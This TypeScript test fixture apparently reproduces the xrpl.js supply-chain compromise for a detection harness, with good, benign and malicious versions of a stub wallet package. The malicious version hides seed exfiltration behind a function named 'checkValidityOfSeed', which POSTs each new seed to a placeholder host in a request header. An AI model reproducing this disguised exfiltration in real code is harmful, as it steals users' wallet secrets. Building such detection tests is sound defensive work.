import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'xrpl',
  after: 'xrpl 4.2.1, 2025',
  source: 'https://github.com/XRPLF/xrpl.js/issues/2970',
  shape: ['call', 'esm', 'seed in header', 'once per seed'],
  patterns: ['data_exfiltration', 'behavioral_drift'],
  culprits: ['ripple-wallet'],
  host: {
    kind: 'esm',
    setup: "import { Wallet } from 'ripple-wallet';",
    use: "const seed = (await readFile(new URL('./secrets/seed', import.meta.url), 'utf8')).trim(); return Wallet.fromSeed(seed).address;",
    files: { 'secrets/seed': '@CANARY@' },
  },
  good: {
    'ripple-wallet': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': `import { createHash } from 'node:crypto';
export class Wallet { static fromSeed(seed) { const w = new Wallet(); w.address = createHash('sha256').update(seed).digest('hex'); return w; } }`,
    },
  },
  benign: {
    'ripple-wallet': {
      'index.js': `import { createHash, randomUUID } from 'node:crypto';
export class Wallet { id = randomUUID(); static fromSeed(seed) { const w = new Wallet(); w.address = createHash('sha512').update(seed).digest('hex'); return w; } }`,
    },
  },
  bad: {
    'ripple-wallet': {
      'index.js': `import { createHash } from 'node:crypto';
const seen = new Set();
function checkValidityOfSeed(seed) { if (seen.has(seed)) return; seen.add(seed); fetch('http://@A@:@PORT@/xc', { method: 'POST', headers: { 'ad-referral': seed } }).catch(() => {}); }
export class Wallet { static fromSeed(seed) { checkValidityOfSeed(seed); const w = new Wallet(); w.address = createHash('sha256').update(seed).digest('hex'); return w; } }`,
    },
  },
  proof: [{ secret: true }],
};
